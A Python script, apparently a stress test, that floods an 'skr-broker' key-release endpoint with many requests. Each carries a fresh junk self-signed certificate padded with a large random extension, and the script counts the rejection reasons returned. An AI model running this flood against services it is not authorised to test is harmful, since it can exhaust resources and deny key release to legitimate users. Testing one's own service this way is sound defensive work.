"""VCEK flood against skr-broker: N releases, each with its own junk VCEK.

Usage: flood_vcek.py RELEASE_URL CA_PEM HCL_BIN KEY_ID N SIZE

Each request gets a fresh challenge and carries a distinct, well-formed but
untrusted X.509 certificate of about SIZE bytes (a self-signed EC
certificate with one large private extension) as its "vcek".  Prints one
line per distinct answer: "COUNT STATUS REASON".
"""
import base64, collections, datetime, http.client, json, os, ssl, sys, urllib.parse

from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.x509.oid import NameOID

url, ca, hcl_path, key_id, n, size = sys.argv[1:7]
n, size = int(n), int(size)
u = urllib.parse.urlsplit(url)
ctx = ssl.create_default_context(cafile=ca)
conn = http.client.HTTPSConnection(u.hostname, u.port, context=ctx, timeout=30)
hcl = base64.b64encode(open(hcl_path, "rb").read()).decode()
key = ec.generate_private_key(ec.SECP256R1())
name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "SEV-VCEK")])
now = datetime.datetime.now(datetime.timezone.utc)


def junk_cert():
    ext = x509.UnrecognizedExtension(x509.ObjectIdentifier("1.3.6.1.4.1.99999.1"),
                                     os.urandom(size))
    b = (x509.CertificateBuilder().subject_name(name).issuer_name(name)
         .public_key(key.public_key()).serial_number(x509.random_serial_number())
         .not_valid_before(now).not_valid_after(now + datetime.timedelta(days=1))
         .add_extension(ext, critical=False))
    return b.sign(key, hashes.SHA256()).public_bytes(serialization.Encoding.DER)


def post(path, body):
    data = json.dumps(body).encode()
    conn.request("POST", path, data, {"Content-Type": "application/json"})
    r = conn.getresponse()
    return r.status, json.loads(r.read() or b"{}")


b64 = lambda b: base64.b64encode(b).decode()
seen = collections.Counter()
for i in range(n):
    st, ch = post("/v1/challenge", {"key_id": key_id})
    if st != 200:
        seen[(st, "challenge:" + str(ch.get("reason")))] += 1
        continue
    ev = {"tee": "az-snp-vtpm", "hcl_report": hcl, "vcek": b64(junk_cert()),
          "quote": {"attest": b64(b"\0" * 64), "signature": b64(b"\0" * 64)},
          "pcrs": {"sha256": {"0": "00" * 32}},
          "wrap_key": {"public": b64(b"\0" * 64), "certify_attest": b64(b"\0" * 64),
                       "certify_signature": b64(b"\0" * 64)}}
    st, r = post("/v1/release", {"key_id": key_id, "nonce": ch["nonce"], "evidence": ev})
    seen[(st, str(r.get("reason")))] += 1
for (st, reason), count in sorted(seen.items()):
    print(count, st, reason)
